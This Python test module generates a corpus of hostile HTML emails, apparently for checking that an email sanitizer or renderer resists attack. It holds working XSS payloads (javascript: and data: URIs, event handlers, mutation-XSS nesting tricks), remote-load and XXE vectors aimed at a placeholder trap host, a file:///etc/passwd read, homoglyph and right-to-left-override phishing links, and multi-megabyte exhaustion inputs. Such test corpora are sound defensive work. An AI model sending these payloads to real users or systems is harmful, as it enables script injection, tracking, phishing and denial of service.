"""Emails that nobody means well with: what each tries is its name."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from functools import partial
from typing import Final

_ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "\\\\TRAP\\share",
    "//TRAP/x",
    "http://TRAP/x",
    "ftp://TRAP/x",
    "blob:http://TRAP/1",
    "view-source:http://TRAP",
    "qrc:/x",
)
_HANDLERS: Final = (
    "onclick",
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "onpageshow",
    "onbegin",
    "ontoggle",
    "onanimationstart",
    "OnClIcK",
)
_LOADS: Final = (
    '<img src="http://TRAP/a.png">',
    '<img src="http://TRAP/a.png" srcset="http://TRAP/b.png 2x" alt="Logo">',
    '<img src="//TRAP/a.png" width=1 height=1>',
    '<img lowsrc="http://TRAP/a" dynsrc="http://TRAP/b">',
    '<picture><source srcset="http://TRAP/a"><img src="http://TRAP/b"></picture>',
    '<input type=image src="http://TRAP/a">',
    '<body background="http://TRAP/a">text',
    '<table background="http://TRAP/a"><tr><td background="http://TRAP/b">x</table>',
    '<link rel=stylesheet href="http://TRAP/a.css">',
    '<link rel=preload as=image href="http://TRAP/a"><link rel=dns-prefetch href="http://TRAP">',
    '<link rel=icon href="http://TRAP/favicon.ico">',
    '<style>@import "http://TRAP/a.css";</style>text',
    "<style>@import url(http://TRAP/a.css);body{background:url(http://TRAP/b)}</style>text",
    "<style>@font-face{font-family:x;src:url(http://TRAP/f)}*{font-family:x}</style>text",
    '<p style="background:url(http://TRAP/a)">x',
    "<p style=\"background-image:url('http://TRAP/a')\">x",
    '<p style="list-style-image:url(http://TRAP/a);display:list-item">x',
    '<p style="behavior:url(http://TRAP/a);-moz-binding:url(http://TRAP/b)">x',
    '<p style="width:expression(alert(1))">x',
    '<ul style="list-style-image:url(http://TRAP/a)"><li>x</ul>',
    '<iframe src="http://TRAP/a"></iframe>',
    "<iframe srcdoc=\"<img src='http://TRAP/a'>\"></iframe>",
    '<frameset><frame src="http://TRAP/a"></frameset>',
    '<object data="http://TRAP/a"><param name=x value="http://TRAP/b">inside</object>',
    '<embed src="http://TRAP/a">',
    '<applet code=x codebase="http://TRAP/">inside</applet>',
    '<audio src="http://TRAP/a" autoplay></audio>',
    '<video poster="http://TRAP/a"><source src="http://TRAP/b"><track src="http://TRAP/c"></video>',
    '<base href="http://TRAP/"><img src="a.png"><a href="b">b</a>',
    '<meta http-equiv=refresh content="0;url=http://TRAP/">text',
    '<meta http-equiv="Content-Security-Policy" content="report-uri http://TRAP/">text',
    '<form action="http://TRAP/"><input name=a value=b><button>Send</button></form>',
    '<form id=f></form><button form=f formaction="http://TRAP/">Send</button>',
    '<isindex action="http://TRAP/"><keygen>',
    '<svg><script href="http://TRAP/a"/><script>alert(1)</script></svg>',
    '<svg onload=alert(1)><image href="http://TRAP/a"/><use href="http://TRAP/b#c"/></svg>',
    '<svg><foreignObject><img src="http://TRAP/a"></foreignObject></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><img src="http://TRAP/a"></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<a href="http://TRAP/" ping="http://TRAP/p">x</a>',
    '<!--[if mso]><v:fill src="http://TRAP/a"/><![endif]-->text',
    '<?xml-stylesheet href="http://TRAP/a.css"?>text',
    '<!DOCTYPE html SYSTEM "http://TRAP/x.dtd">text',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "http://TRAP/e">]><p>&a;',
    '<template><img src="http://TRAP/a"></template>',
    '<noscript><img src="http://TRAP/a"></noscript>',
    '<bgsound src="http://TRAP/a"><marquee>x</marquee>',
)
_SCRIPTS: Final = (
    "<script>alert(1)</script>text",
    '<script src="http://TRAP/a.js"></script>text',
    "<scr<script>ipt>alert(1)</scr</script>ipt>text",
    "<script>/*",
    "<script\x00>alert(1)</script>text",
    "<ScRiPt >alert(1)</sCrIpT >text",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>text",
    "<style></style><script>alert(1)</script>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
)
_BROKEN: Final = (
    "<",
    "<p",
    "</p></p></div>",
    "<b><i></b></i>",
    "<a href='x",
    '<a href="http://TRAP/">no end',
    "<p><p><p><table><p><tr><p>",
    "<!-- no end",
    "<!-->x<!--->y",
    "<![CDATA[ <b>x</b> ]]>",
    "&#0;&#xD800;&#x110000;&#99999999999;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>\x00\x01\x02\x7f\ufffe\uffff</p>",
    "<p>\ud800half\udfff</p>",
    "<p>\ufeffmark</p>\u2028\u2029",
    "<p>a\r\nb\rc\nd</p>",
    "<é>é</é><p é=é>é",
    "<table><tr><td colspan=99999999 rowspan=99999999>x</table>",
    "<td colspan=" + "9" * 5000 + ">x",
    "<table><caption><table><caption>x",
    "<ol start=-99999999999><li value=99999999999>x",
    '<font size="+99999">x</font>',
    "<pre>" + "wide " * 2000 + "</pre>",
    "<li>no list</li><dd>no term</dd>",
    '${a!"<b>"}<#if x><p>${b}</#if>',
)
_TURNED: Final = (
    '<a href="http://TRAP/">\u202egro.knab.www//:sptth</a>',
    "<p>\u202e\u2066\u202d text \u2069</p>after",
    '<a href="http://TRAP/\u202ecod.exe">bill</a>',
    '<a href="https://bank.example@TRAP/">bank.example</a>',
    '<a href="https://TRAP\\@bank.example">https://bank.example</a>',
    '<a href="https://b\u0430nk.example/">bank.example</a>',
    '<a href="https://bank.example\u200b.TRAP/">bank.example</a>',
    "<p>" + "a" + "\u0301" * 500 + "</p>",
)
_BIG: Final[Mapping[str, Callable[[], str]]] = {
    "10 MB of letters": lambda: _repeated("<p>Dear <b>Maria</b>, your car is ready.</p>\n", 10),
    "10 MB in one word": lambda: "x" * 10_000_000,
    "10 MB in one line of HTML": lambda: _repeated("<i>all in one line</i> ", 10),
    "10 MB of ends of lines": lambda: "\n" * 10_000_000,
    "100,000 divisions": lambda: "<div>" * 100_000 + "x",
    "100,000 bold": lambda: "<b>" * 100_000 + "x",
    "100,000 links": lambda: '<a href="http://TRAP/">' * 100_000,
    "100,000 ends": lambda: "</p>" * 100_000,
    "100,000 comments": lambda: "<!--x-->" * 100_000,
    "100,000 attributes": lambda: "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">x",
    "10,000 tables in tables": lambda: "<table><tr><td>" * 10_000 + "x",
    "10 tables in tables": lambda: "<table><tr><td>x" * 10 + "<p>y" * 500,
    "10,000 lists in lists": lambda: "<ul><li>" * 10_000 + "x",
    "10,000 quotations": lambda: "<blockquote>" * 10_000 + "x",
    "a table of 100,000 cells": lambda: "<table><tr>" + "<td>x" * 100_000,
    "a table of 20,000 rows": lambda: "<table>" + "<tr><td>x" * 20_000,
    "100,000 breaks": lambda: "<br>" * 100_000,
    "100,000 pictures": lambda: '<img src="http://TRAP/a">' * 100_000,
    "100,000 entities": lambda: "<p>" + "&amp;&#x1F600;" * 50_000,
    "entities of entities": lambda: "&amp;" * 20 + "lt;script&gt;" + "&" + "amp;" * 100_000,
    "faces of families": lambda: "<p>" + "\U0001f469\u200d\U0001f469\u200d\U0001f467 " * 20_000,
    "two scripts": lambda: "<p>" + "مرحبا بك שלום " * 10_000,
    "a style of 1 MB": lambda: "<style>" + "p{color:red}" * 83_000 + "</style><p>x",
    "an address of 1 MB": lambda: '<a href="https://TRAP/' + "x" * 1_000_000 + '">x</a>',
    "a name of 1 MB": lambda: f"<{'x' * 1_000_000}>x",
    "preformatted": lambda: "<pre>" + "x" * 200_000,
}


def _repeated(text: str, megabytes: int) -> str:
    return text * (megabytes * 1_000_000 // len(text))


def hostile_mails(trap: str) -> dict[str, Callable[[], str]]:
    """By what they try; whatever of them is loaded comes to `trap`, a host with its port."""
    small = {
        **{f"address {text!r}": f'<a href="{text}">click</a>' for text in _ADDRESSES},
        **{f"picture {text!r}": f'<img src="{text}">' for text in _ADDRESSES},
        **{f"handler {name}": f'<p {name}="alert(1)">x<img src=x {name}=y>' for name in _HANDLERS},
        **{text: text for text in (*_LOADS, *_SCRIPTS, *_BROKEN, *_TURNED)},
    }

    def trapped(make: Callable[[], str]) -> Callable[[], str]:
        return lambda: make().replace("TRAP", trap)

    made = {name: trapped(partial(str, text)) for name, text in small.items()}
    return made | {name: trapped(make) for name, make in _BIG.items()}
